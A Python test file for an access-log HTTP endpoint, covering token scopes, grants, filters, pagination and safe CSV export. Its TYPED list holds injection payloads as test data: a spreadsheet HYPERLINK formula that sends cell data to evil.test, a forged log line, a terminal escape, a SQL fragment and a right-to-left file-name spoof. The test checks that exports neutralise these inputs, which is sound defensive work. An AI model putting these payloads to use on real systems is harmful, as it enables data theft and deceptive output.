"""The access log as its readers see it: scope, own rows, pages, and tables that run nothing."""

import csv
import io
import json

import pytest

from node.contract.times import DAY, SECOND, format_time, now_us
from node.db.audit_log import append_events
from node.db.holder_references import take_link_changes
from node.http.log_tables import cell
from node.services.access import LockerScope
from node.services.audit import encode_event
from node.services.push import LinkChange
from tests.http.plane import ISS, ISSUER, OTHER_ISSUER, Locker, register

PATH = "/v1/access-log"


def ask(control, bearer, query="", accept=None):
    answer = control.ask("GET", f"{PATH}?{query}", bearer=bearer, headers={"Accept": accept} if accept else {})
    assert answer.status_code == 200, answer.text
    return answer


def read(control, doc_id, issuer=ISSUER, **fields):
    usual = {
        "client_id": "university", "principal": {"kind": "ticket", "iss": ISS}, "source": "203.0.113.9", "status": 200
    }  # fmt: skip
    control.write(uri=f"{issuer}-INCOM-{doc_id}", issuer=issuer, doc_type="INCOM", **{**usual, **fields})


def uris(answer):
    return [row["uri"] for row in answer.json()["rows"] if row["action"] == "read"]


def test_an_auditor_sees_the_rows_of_the_token_scope(control):
    read(control, "1")
    read(control, "2", OTHER_ISSUER)
    control.write(uri="no uri at all", outcome="refused")
    control.sequence()
    everything = ask(control, control.token("auditor")).json()["rows"]
    assert [row.get("uri", row.get("uri_text")) for row in everything] == [
        f"{ISSUER}-INCOM-1", f"{OTHER_ISSUER}-INCOM-2", "no uri at all"
    ]  # fmt: skip
    assert uris(ask(control, control.token("auditor", issuers=(ISSUER.upper(),)))) == [f"{ISSUER}-INCOM-1"]
    assert uris(ask(control, control.token("auditor", doc_types=("DEGREE",)))) == []


def test_a_token_for_a_period_sees_its_last_day_whole(control):
    first = 20_000 * DAY
    with control.database.writing() as connection:
        for offset in (0, DAY, 2 * DAY - 1, 2 * DAY):
            event = {"action": "read", "outcome": "complete", "uri": f"{ISSUER}-INCOM-{offset}", "issuer": ISSUER}
            append_events(connection, [encode_event(event, first + offset)])
    control.sequence()
    days = [format_time(first + number * DAY)[:10] for number in range(3)]
    token = control.token("auditor", from_date=days[1], until_date=days[1])
    assert uris(ask(control, token)) == [f"{ISSUER}-INCOM-{DAY}", f"{ISSUER}-INCOM-{2 * DAY - 1}"]
    later = format_time(first + DAY + 1).replace("Z", "%2B00:00")
    assert uris(ask(control, token, f"from={later}")) == [f"{ISSUER}-INCOM-{2 * DAY - 1}"]
    assert uris(ask(control, token, "from=1971-01-01T00:00:00Z&to=2030-01-01T00:00:00Z")) == uris(ask(control, token))


def test_a_token_for_an_office_sees_its_documents_rows(control):
    control.add("1", office="north")
    control.add("2", office="south")
    read(control, "1")
    read(control, "2")
    read(control, "3")
    control.sequence()
    assert uris(ask(control, control.token("auditor", office="north"))) == [f"{ISSUER}-INCOM-1"]


def test_a_resident_sees_own_rows_and_who_read_but_not_from_where(control):
    read(control, "1", holder_ref="h-1")
    read(control, "2", holder_ref="h-2")
    control.sequence()
    grant = control.locker.log_grant(scope="holder", holder_ref="h-1")
    [row] = ask(control, grant).json()["rows"]
    assert (row["uri"], row["client_id"]) == (f"{ISSUER}-INCOM-1", "university")
    assert "source" not in row
    for other in ("holder_ref=h-2", "holder_ref=h-2&uri=" + f"{ISSUER}-INCOM-2"):
        answer = control.ask("GET", f"{PATH}?{other}", bearer=grant)
        assert answer.status_code == 403
        assert control.events()[-1]["reason"] == "not-own-rows"
    assert uris(ask(control, grant, f"uri={ISSUER}-INCOM-2")) == []


def test_a_resident_sees_the_nodes_own_rows_and_none_of_another_lockers(control):
    other = Locker("https://other.example")
    register(control, other)
    uri = control.add("1", holder_ref="own-1")
    with control.database.writing() as connection:
        changes = [LinkChange(1, uri, "linked", "h-1")]
        take_link_changes(connection, ISS, changes, lambda _issuer, _doc_type: True)
    read(control, "1", holder_ref="h-1")
    read(control, "1", holder_ref="own-1", client_id=None, principal={"kind": "token", "id": "t", "role": "operator"})
    read(control, "1", holder_ref="h-1", principal={"kind": "ticket", "iss": other.iss})
    control.sequence()

    def roles(locker):
        rows = ask(control, locker.log_grant(scope="holder", holder_ref="h-1")).json()["rows"]
        return [row["role"] for row in rows if row["action"] == "read"]

    assert roles(control.locker) == ["ticket", "operator"]
    assert roles(other) == ["ticket"]


def test_a_requester_sees_own_pulls_and_not_those_of_a_namesake(control):
    other = Locker("https://other.example")
    register(control, other)
    read(control, "1")
    read(control, "2", client_id="bank")
    read(control, "3", principal={"kind": "ticket", "iss": other.iss})
    control.sequence()
    grant = control.locker.log_grant(scope="client", client_id="university")
    assert uris(ask(control, grant)) == [f"{ISSUER}-INCOM-1"]
    assert uris(ask(control, other.log_grant(scope="client", client_id="university"))) == [f"{ISSUER}-INCOM-3"]
    assert control.ask("GET", f"{PATH}?client_id=bank", bearer=grant).status_code == 403


def test_a_grant_reaches_no_further_than_its_locker(control):
    read(control, "1", holder_ref="h-1")
    read(control, "2", OTHER_ISSUER, holder_ref="h-1")
    control.sequence()
    control.build(limits={ISS: LockerScope(ISS, "active", (ISSUER,))})
    assert uris(ask(control, control.locker.log_grant(scope="holder", holder_ref="h-1"))) == [f"{ISSUER}-INCOM-1"]
    assert uris(ask(control, control.locker.log_grant(scope="client", client_id="university"))) == [f"{ISSUER}-INCOM-1"]


@pytest.mark.parametrize(
    ("grant", "reason"),
    [
        (lambda locker: locker.log_grant("node-2", scope="holder", holder_ref="h"), "wrong-audience"),
        (lambda locker: locker.log_grant(at_us=now_us() - 600 * SECOND, scope="holder", holder_ref="h"), "expired"),
        (
            lambda locker: locker.log_grant(at_us=now_us() + 600 * SECOND, scope="holder", holder_ref="h"),
            "not-yet-valid",
        ),
        (lambda locker: locker.log_grant(scope="holder", holder_ref="h")[:-4] + "AAAA", "bad-signature"),
    ],
)
def test_a_grant_that_is_not_good_here(control, grant, reason):
    assert control.ask("GET", PATH, bearer=grant(control.locker)).status_code == 401
    assert control.events()[-1]["reason"] == reason


@pytest.mark.parametrize(
    ("query", "found"),
    [
        (f"uri={ISSUER.upper()}-incom-1", ["1"]), ("holder_ref=h-2", ["2"]), ("client_id=bank", ["3"]),
        ("consent_id=019ab6ee-7d10-7f3a-8b4e-9c2d1e0f3a5b", ["4"]), ("outcome=refused", ["5"]),
        ("action=head", []), ("action=read&outcome=complete", ["1", "2", "3", "4"]),
    ],
)  # fmt: skip
def test_filters(control, query, found):
    read(control, "1")
    read(control, "2", holder_ref="h-2")
    read(control, "3", client_id="bank")
    read(control, "4", consent_id="019ab6ee-7d10-7f3a-8b4e-9c2d1e0f3a5b")
    read(control, "5", outcome="refused")
    control.sequence()
    assert [uri[-1] for uri in uris(ask(control, control.token("auditor"), query))] == found


@pytest.mark.parametrize("accept", ["application/json", "application/x-ndjson", "text/csv"])
def test_pages_join_without_gap_or_repetition(control, accept):
    for number in range(7):
        read(control, str(number))
    control.sequence()
    token, positions, query = control.token("auditor"), [], "limit=3&action=read"
    while query:
        answer = ask(control, token, query, accept)
        assert answer.headers["content-type"].startswith(accept)
        positions += [int(row["position"]) for row in rows_of(answer)]
        link = answer.headers.get("link")
        query = link.partition("?")[2].partition(">")[0] if link else None
    assert positions == list(range(1, 8))


def rows_of(answer):
    kind = answer.headers["content-type"].partition(";")[0]
    if kind == "text/csv":
        return list(csv.DictReader(io.StringIO(answer.text, newline="")))
    if kind == "application/x-ndjson":
        return [json.loads(line) for line in answer.text.splitlines()]
    return answer.json()["rows"]


def test_a_form_that_does_not_exist(control):
    answer = control.ask("GET", PATH, bearer=control.token("auditor"), headers={"Accept": "application/pdf"})
    assert answer.status_code == 406
    assert control.events()[-1]["status"] == 406


def test_the_query_is_a_row_that_is_found_with_the_document(control):
    read(control, "1")
    control.sequence()
    ask(control, control.token("auditor"), f"uri={ISSUER}-INCOM-1&outcome=complete&limit=5")
    row = control.events()[-1]
    assert (row["action"], row["uri"], row["issuer"], row["rows"]) == ("log.query", f"{ISSUER}-INCOM-1", ISSUER, 1)
    assert row["filter"] == {"outcome": "complete"}
    again = ask(control, control.token("auditor", issuers=(ISSUER,)), f"uri={ISSUER}-INCOM-1")
    assert [row["action"] for row in again.json()["rows"]] == ["read", "log.query"]


TYPED = [
    "asha\r\n2026-04-01T00:00:00Z INFO consent granted by=admin", "a\u2028b", "\x1b[2J", '=HYPERLINK("http://evil.test/?"&A1,"open")',
    "+1", "-1", "@SUM(1)", "\t=1", '"; DROP', 'one, "two"\nthree', "அனுமதி", "\\n", "'=1", "＝1", "\u202egpj.exe", " =1",
]  # fmt: skip


@pytest.mark.parametrize("accept", ["application/json", "application/x-ndjson", "text/csv"])
def test_what_users_typed_is_one_row_each(control, accept):
    """Field case 28: one event is one record in every export, and no cell begins as a formula."""
    for text in TYPED:
        read(control, "1", client_id=text)
    control.sequence()
    answer = ask(control, control.token("auditor"), "action=read", accept)
    rows = rows_of(answer)
    assert len(rows) == len(TYPED)
    shown = [row["client_id"] for row in rows]
    if accept != "text/csv":
        assert shown == TYPED
        return
    assert len(set(shown)) == len(TYPED)
    assert not [text for text in shown if text.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))]
    assert not [text for text in shown if any(character in text for character in "\r\n\x1b\u2028\u202e")]
    assert shown[10] == "அனுமதி"
    assert [row["status"] for row in rows] == ["200"] * len(TYPED)
    answer.content.decode("utf-8")


def test_cells_of_different_texts_differ():
    texts = ["\n", "\\n", "\\\\n", "'=1", "=1", "''=1", "\\u000a", "\t", "\\t"]
    assert len({cell(text) for text in texts}) == len(texts)
    assert (cell(-5), cell(None), cell("-5")) == ("-5", "", "'-5")


def test_parts_and_floods_are_shown_in_the_contract_s_words(control):
    read(
        control, "1", status=206, offset=10, length=5, read_id="019ab6f1-2a4b-7c10-8f10-5a0f7b11c3d1", outcome="allowed"
    )
    control.write(
        uri=f"{ISSUER}-INCOM-1", phase="end", bytes=5, ticket="t-1", read_id="019ab6f1-2a4b-7c10-8f10-5a0f7b11c3d1"
    )
    control.write(outcome="refused", reason="flood", status=429, source="203.0.113.7", count=17)
    control.sequence()
    part, end, flood = ask(control, control.token("auditor")).json()["rows"]
    assert (part["range"], part["locker"], part["role"]) == ("10-14", ISS, "ticket")
    assert (end["bytes_sent"], end["jti"], "range" in end) == (5, "t-1", False)
    assert (flood["count"], flood["reason"]) == (17, "flood")
